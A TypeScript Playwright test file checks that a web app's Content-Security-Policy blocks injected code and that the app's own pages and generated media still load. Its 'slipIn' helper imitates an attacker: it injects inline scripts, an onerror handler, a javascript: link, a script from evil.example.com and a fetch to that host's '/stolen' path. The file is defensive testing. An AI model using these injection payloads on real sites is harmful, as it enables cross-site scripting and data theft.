import { randomUUID } from 'node:crypto';
import { getApp } from 'firebase-admin/app';
import { getAuth } from 'firebase-admin/auth';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sell } from '../flows/payments.ts';
import { credits, db, must, newRequestId, signUp as signUpByCall, theAdmin } from '../flows/support.ts';
import { launch, signUp, type Visitor, visit } from './browser.ts';
import { grantRole } from './operator.ts';

/**
 * The Content-Security-Policy of the pages: what is slipped in does not run, and nothing of our own is in its
 * way.
 */

let browser: Browser;
let putBack: () => Promise<void>;

beforeAll(async () => {
  browser = await launch();
  const found = (await db.doc('system_config/credit_config').get()).data() ?? {};
  const watcher = await signUpByCall();
  putBack = () => sell(watcher, () => ({ sellsPacks: found.sellsPacks, packs: found.packs }));
  const pack = {
    label: 'Small',
    creditsMicro: credits(25),
    bonusMicro: 0,
    priceCents: 499,
    bestValue: false,
  };
  await sell(watcher, () => ({ sellsPacks: true, packs: { small: pack } }));
});

afterAll(async () => {
  await browser?.close();
  await putBack?.();
});

/** Somebody with credits to spare, and what the policy has stopped on their pages, as `DIRECTIVE ADDRESS`. */
async function watched(): Promise<Visitor & { email: string; stopped: string[] }> {
  const visitor = await visit(browser);
  const stopped: string[] = [];
  await visitor.context.exposeFunction('tellStopped', (what: string) => stopped.push(what));
  await visitor.context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      const { tellStopped } = globalThis as unknown as { tellStopped(what: string): void };
      tellStopped(`${effectiveDirective} ${blockedURI}`);
    });
  });
  await visitor.page.reload();
  const email = `pia-${randomUUID().slice(0, 8)}@example.com`;
  await signUp(visitor, email);
  const grant = { email, amountMicro: credits(100), type: 'bonus', reason: 'to look around' } as const;
  await must('grantCreditsToUser', { requestId: newRequestId(), ...grant }, await theAdmin());
  return { ...visitor, email, stopped };
}

/** As an attacker would, who has found a way to write into the page. */
const slipIn = (page: Page, origin: string) =>
  page.evaluate(async (elsewhere) => {
    const ran: string[] = [];
    Object.assign(globalThis, { ran });
    const script = document.createElement('script');
    script.textContent = 'ran.push("inline script")';
    document.body.append(script);
    const holder = document.createElement('div');
    holder.innerHTML =
      '<img src="/nothing" onerror="ran.push(\'handler\')"><a href="javascript:ran.push(\'address\')">x</a>';
    document.body.append(holder);
    holder.querySelector('a')?.click();
    const foreign = document.createElement('script');
    foreign.src = `${elsewhere}/foreign.js`;
    const ended = new Promise((resolve) => {
      foreign.onload = () => resolve(ran.push('foreign script'));
      foreign.onerror = () => resolve(null);
    });
    document.body.append(foreign);
    await ended;
    await fetch(`${elsewhere}/stolen`).then(
      () => ran.push('fetch'),
      () => {},
    );
    return ran;
  }, origin);

describe('the pages', () => {
  it('run nothing that was slipped in, neither inline nor from elsewhere, and send nothing there', async () => {
    const { page, context, stopped } = await watched();
    const elsewhere = 'https://evil.example.com';
    // It would answer, if it were asked.
    await context.route(`${elsewhere}/**`, (route) =>
      route.fulfill({ body: 'ran.push("foreign")', headers: { 'access-control-allow-origin': '*' } }),
    );
    expect(await slipIn(page, elsewhere)).toEqual([]);
    await expect
      .poll(() => stopped.map((what) => what.split('/').slice(0, 3).join('/')).sort())
      .toEqual([
        `connect-src ${elsewhere}`,
        'script-src-attr inline',
        `script-src-elem ${elsewhere}`,
        'script-src-elem inline',
        'script-src-elem inline',
      ]);
    await context.close();
  });

  it('show everything that is made, and lead to the page for paying', async () => {
    const { page, context, stopped } = await watched();
    for (const [kind, mime, what] of [
      ['image', 'image/png', 'img'],
      ['voice', 'audio/wav', 'audio'],
      ['video', 'image/gif', 'img'],
      ['chat', 'text/plain', 'div'],
    ] as const) {
      await page.getByRole('tab', { name: new RegExp(`^${kind}`, 'i') }).click();
      const form = page.getByRole('form', { name: `Generate ${kind}` });
      await form.getByRole('textbox').first().fill('a quiet harbour');
      await form.getByRole('button', { name: new RegExp(`^Generate ${kind}`) }).click();
      const result = page.locator(`[data-testid=result][data-mime="${mime}"]`).locator(what).first();
      await result.waitFor({ timeout: 90_000 });
      // What the policy keeps from loading is on the page all the same.
      await expect
        .poll(() =>
          result.evaluate((shown) => {
            if (shown instanceof HTMLImageElement) return shown.naturalWidth > 0;
            return shown instanceof HTMLMediaElement ? shown.readyState > 0 : shown.textContent !== '';
          }),
        )
        .toBe(true);
    }
    await page.getByRole('link', { name: 'Account', exact: true }).click();
    await page.getByTestId('account-purchases').getByRole('button').first().click();
    await page
      .getByRole('dialog', { name: 'Buy credits' })
      .getByRole('button', { name: /^Buy for/ })
      .click();
    await page.getByText('Simulated checkout: no money moves.').waitFor();
    expect(stopped).toEqual([]);
    await context.close();
  });

  it('are not in the way of themselves, anywhere', async () => {
    const { page, context, stopped, email } = await watched();
    await grantRole(email);
    const { uid } = await getAuth(getApp('flows')).getUserByEmail(email);
    const hosting = new URL(page.url()).origin;
    const heading = () => page.getByRole('heading').first().waitFor();
    for (const path of ['/', '/history', '/account', '/demo', '/bought?order=none', '/nowhere']) {
      await page.goto(hosting + path);
      await heading();
    }
    const admin = [
      'live',
      'overview',
      'users',
      `users/${uid}`,
      'credits',
      'abuse',
      'addresses',
      'audit',
      'health',
    ];
    for (const path of admin) {
      await page.goto(`${hosting}/admin/${path}`);
      await heading();
    }
    expect(stopped).toEqual([]);
    await context.close();
  });
});
